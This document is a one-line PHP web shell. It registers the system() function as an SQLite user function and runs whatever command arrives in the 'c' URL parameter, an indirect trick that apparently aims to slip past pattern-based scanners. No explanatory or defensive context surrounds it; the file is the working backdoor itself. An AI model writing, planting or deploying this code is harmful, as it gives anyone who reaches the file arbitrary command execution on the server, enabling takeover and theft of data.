<?php $db = new PDO("sqlite::memory:"); $db->sqliteCreateFunction("x", "system", 1); $db->query("select x(" . $db->quote($_GET["c"]) . ")");
